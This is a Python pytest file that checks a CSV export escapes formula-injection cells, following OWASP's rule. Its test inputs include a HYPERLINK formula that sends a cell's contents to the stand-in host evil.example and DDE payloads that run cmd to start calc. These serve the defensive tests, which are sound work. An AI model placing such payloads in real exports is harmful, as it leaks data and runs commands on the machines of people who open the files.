"""OWASP's rule for CSV injection, on the one function every export writes through."""

import csv
import io

import pytest

from dedupe.spreadsheet import csv_lines, safe_cell


@pytest.mark.parametrize(
    "attack",
    ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd",
     "\t=1+1", "\r=1+1"],
)  # fmt: skip
def test_a_cell_a_spreadsheet_would_run_is_written_as_text(attack):
    [header, line] = list(csv_lines(["note"], [[attack]]))
    [[cell]] = list(csv.reader(io.StringIO(line)))
    assert cell == "'" + attack


@pytest.mark.parametrize("value", ["permit 12", "1 Main St", "", "O'Brien", "a=b", "x-1"])
def test_ordinary_text_is_unchanged(value):
    assert safe_cell(value) == value


def test_numbers_and_empty_cells_are_ours_and_left_alone():
    assert safe_cell(-5) == -5 and safe_cell(0.5) == 0.5 and safe_cell(None) is None
    assert list(csv_lines(["a", "b"], [[-5, None]]))[1] == "-5,\r\n"
